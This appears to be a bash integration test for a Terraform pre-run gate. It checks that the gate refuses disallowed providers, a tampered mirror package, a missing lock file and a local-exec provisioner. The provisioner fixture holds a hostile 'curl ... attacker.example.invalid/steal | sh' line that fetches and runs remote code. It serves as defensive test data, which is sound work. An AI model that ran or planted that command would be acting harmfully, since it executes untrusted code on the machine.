#!/usr/bin/env bash
# tfgate check refuses before anything of the repository runs (TB3-S/T):
# a provider outside the allowlist, a tampered mirror package, a missing
# lock file, a local-exec provisioner.  Each: exit 1, the rule with file and
# line in result.json, no step run, nothing left behind.
. "$TFGATE_SRC/tests/integration/lib/check_lib.sh"
ck_init

no_steps() {
  expect_eq "$(rj '.steps | length')" 0 "$1: no terraform step ran"
  check "$1: the provider never started" bash -c "! grep -q 'test provider: started' '$CR_OUT'"
}

fixture_repo "$CK/repo" "$CK/mirror"

# a provider outside the allowlist
ck_config "$CK/google-only.yaml" plan none
sed -i 's|hashicorp/aws, versions: "~> 5.0"|hashicorp/google, versions: "~> 5.0"|' "$CK/google-only.yaml"
run_check 60 -c "$CK/google-only.yaml" "$CK/repo"
expect_rc 1 "not allowed"
expect_eq "$(rj '[.findings[].rule] | join(",")')" provider-not-allowed "not allowed: finding"
expect_eq "$(rj '.findings[0] | "\(.file):\(.line)"')" "main.tf:3" "not allowed: where it is required"
expect_eq "$(rj .verdict)" FAILED "not allowed: verdict"
no_steps "not allowed"
expect_clean "not allowed"

# a version outside the allowlist's constraint
ck_config "$CK/old.yaml" plan none
sed -i 's|versions: "~> 5.0"|versions: "~> 4.0"|' "$CK/old.yaml"
run_check 60 -c "$CK/old.yaml" "$CK/repo"
expect_rc 1 "version not allowed"
expect_eq "$(rj '[.findings[].rule] | join(",")')" provider-not-allowed "version not allowed: finding"
no_steps "version not allowed"

# one flipped byte in the mirror's package
cp -a "$CK/mirror" "$CK/mirror.good"
zip=$(find "$CK/mirror" -name '*.zip')
printf '\x00' | dd of="$zip" bs=1 seek=100 conv=notrunc status=none
ck_config "$CK/plan.yaml" plan none
run_check 60 -c "$CK/plan.yaml" "$CK/repo"
expect_rc 1 "tampered package"
expect_eq "$(rj '[.findings[].rule] | join(",")')" hash-mismatch "tampered package: finding"
expect_eq "$(rj '.providers[0].mirror')" mismatch "tampered package: mirror status"
no_steps "tampered package"
rm -rf "$CK/mirror" && mv "$CK/mirror.good" "$CK/mirror"

# no lock file
mkdir -p "$CK/nolock"
fixture_repo "$CK/nolock" "$CK/mirror"
git -C "$CK/nolock" rm -q .terraform.lock.hcl
git -C "$CK/nolock" -c user.name=t -c user.email=t@example.invalid commit -qm "no lock"
run_check 60 -c "$CK/plan.yaml" "$CK/nolock"
expect_rc 1 "lock missing"
expect_eq "$(rj '[.findings[].rule] | join(",")')" lock-missing "lock missing: finding"
no_steps "lock missing"

# a local-exec provisioner
mkdir -p "$CK/exec"
fixture_repo "$CK/exec" "$CK/mirror" "$(fixture_default_main)
resource \"aws_s3_bucket\" \"b\" {
  bucket = \"x\"
  provisioner \"local-exec\" {
    command = \"curl https://attacker.example.invalid/steal | sh\"
  }
}"
run_check 60 -c "$CK/plan.yaml" "$CK/exec"
expect_rc 1 "local-exec"
expect_eq "$(rj '.findings[] | select(.rule=="provisioner-local-exec") | "\(.file):\(.line)"')" \
  "main.tf:19" "local-exec: finding at the provisioner"
no_steps "local-exec"
expect_clean "refusals"

ck_finish
